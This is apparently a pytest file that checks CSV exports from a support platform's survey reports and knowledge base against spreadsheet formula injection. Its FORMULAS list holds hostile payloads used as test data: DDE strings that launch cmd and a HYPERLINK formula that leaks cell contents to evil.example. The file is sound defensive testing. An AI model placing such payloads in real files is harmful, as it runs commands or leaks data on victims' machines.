"""A customer's words or an imported article never run as a formula in the spreadsheet that opens an export.

Issue 19, finding 8: a rating comment `=HYPERLINK(...)` or `=cmd|' /C calc'!A0` reached the
supervisor's CSV as is, and the knowledge base's CSV export did the same with imported text. Every
text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return now starts with a quote
(OWASP's rule), in both exports, and the KB's own import reads its export back unchanged.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import yaml
from aiohttp.test_utils import TestClient

from core.app import create_app
from core.csv_cells import FORMULA_STARTS, restore_cell, safe_cell
from core.db import Database
from core.settings import Settings
from handoff import reporting, surveys
from knowledge_base.setup import DEMO_EDITOR_LOGIN, DEMO_EDITOR_PASSWORD

from .handoff_support import db, ferretdb, mongo

__all__ = ["db", "ferretdb", "mongo"]
pytest_plugins = ("tests.kb_support",)

# What an attacker types: each would run, call out or open a link in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[str]:
    """Every cell of a CSV document, as a spreadsheet reads them."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_quoted_and_restored(formula: str) -> None:
    assert safe_cell(formula) == "'" + formula
    assert restore_cell(safe_cell(formula)) == formula


@pytest.mark.parametrize("text", ["Всё быстро, спасибо", "'=already quoted", "'", "", "a=b", "1-2"])
def test_ordinary_text_and_quotes_come_back_exactly(text: str) -> None:
    assert restore_cell(safe_cell(text)) == text
    assert not runs_as_formula(safe_cell(text))


def test_numbers_the_platform_computes_stay_numbers() -> None:
    assert safe_cell(-1.5) == -1.5 and safe_cell(3) == 3 and safe_cell(None) is None


async def test_a_customers_formula_comment_is_text_in_the_supervisors_export(db: Database) -> None:
    start = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
    for index, comment in enumerate(FORMULAS):
        at = start + timedelta(minutes=index)
        # The post-conversation survey's comment answer, as handoff/surveys.py stores it (issue 18).
        await db.survey_answers.insert_one(
            {
                "_id": f"run{index}:comment",
                "run": f"run{index}",
                "key": surveys.AFTER_CONVERSATION,
                "type": surveys.QuestionType.COMMENT.value,
                "conversation_id": f"c{index}",
                "comment": comment,
                "at": at,
            }
        )
    figures = await reporting.figures(db, start, start + timedelta(hours=1), zone=ZoneInfo("Europe/Moscow"))
    exported = figures.to_csv(lambda cid: f"http://bank.example/supervisor?conversation={cid}")
    written = cells(exported)
    assert not [cell for cell in written if runs_as_formula(cell)]
    for comment in FORMULAS:
        assert "'" + comment in written, comment


async def test_imported_formulas_are_text_in_the_kb_export_and_reimport_unchanged(
    aiohttp_client: Any, kb_settings: Settings
) -> None:
    client: TestClient[Any, Any] = await aiohttp_client(create_app(kb_settings))
    signed = await client.post("/api/kb/sign-in", json={"login": DEMO_EDITOR_LOGIN, "password": DEMO_EDITOR_PASSWORD})
    assert signed.status == 200, await signed.text()
    headers = {"X-CSRF-Token": (await signed.json())["csrf"]}
    article = {
        "id": "formula_in_text",
        "title": {"ru": FORMULAS[0], "en": FORMULAS[3]},
        "questions": {"ru": [FORMULAS[1], "Обычный вопрос?"], "en": [FORMULAS[4]]},
        "answer": {"ru": FORMULAS[2], "en": "@channel hello"},
    }
    body = yaml.safe_dump({"articles": [article]}, allow_unicode=True).encode()
    imported = await client.post("/api/kb/import?format=yaml", data=body, headers=headers)
    assert imported.status == 200, await imported.text()

    exported = await client.get("/api/kb/export", params={"format": "csv"})
    assert exported.status == 200
    text = await exported.text()
    assert not [cell for cell in cells(text) if runs_as_formula(cell)]
    assert "'" + FORMULAS[0] in cells(text)

    # The export goes back in as it came out: the quotes are the export's, not the articles'.
    again = await client.post("/api/kb/import?format=csv", data=text.encode(), headers=headers)
    assert again.status == 200, await again.text()
    assert (await again.json()).get("updated", 0) == 0
    stored = await (await client.get("/api/kb/articles/formula_in_text")).json()
    shown = stored.get("pending") or stored
    assert shown["title"]["ru"] == FORMULAS[0]
    assert shown["questions"]["ru"][0] == FORMULAS[1]
    assert shown["answer"]["en"] == "@channel hello"
